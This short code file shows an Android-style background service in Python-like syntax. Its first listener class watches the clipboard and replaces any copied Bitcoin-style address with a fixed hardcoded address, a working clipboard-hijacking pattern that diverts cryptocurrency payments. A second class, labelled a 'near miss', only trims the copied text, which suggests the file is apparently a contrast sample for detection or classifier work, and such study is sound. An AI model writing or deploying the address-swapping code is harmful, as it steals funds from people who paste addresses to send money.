permissions("INTERNET")

@service
class Work(Service):
    def onCreate(self):
        board = cast(ClipboardManager, self.getSystemService("clipboard"))
        board.addPrimaryClipChangedListener(Copied(board))

class Copied(ClipboardManager_OnPrimaryClipChangedListener):
    board: ClipboardManager
    def __init__(self, board: ClipboardManager):
        self.board = board
    def onPrimaryClipChanged(self):
        text = self.board.getPrimaryClip().getItemAt(0).getText().toString()
        if text.matches("[13][A-Za-z0-9]{26,33}"):
            self.swap(text, "1BoatSLRHtKNngkdXEeobR76b53LETtpyT")
    def swap(self, text: String, other: String):
        self.board.setPrimaryClip(ClipData.newPlainText("text", other))

# near miss: puts the same text back without blanks around it
class Copied(ClipboardManager_OnPrimaryClipChangedListener):
    board: ClipboardManager
    def __init__(self, board: ClipboardManager):
        self.board = board
    def onPrimaryClipChanged(self):
        text = self.board.getPrimaryClip().getItemAt(0).getText().toString()
        if text.matches("[13][A-Za-z0-9]{26,33}"):
            self.swap(text, "1BoatSLRHtKNngkdXEeobR76b53LETtpyT")
    def swap(self, text: String, other: String):
        self.board.setPrimaryClip(ClipData.newPlainText("text", text.trim()))
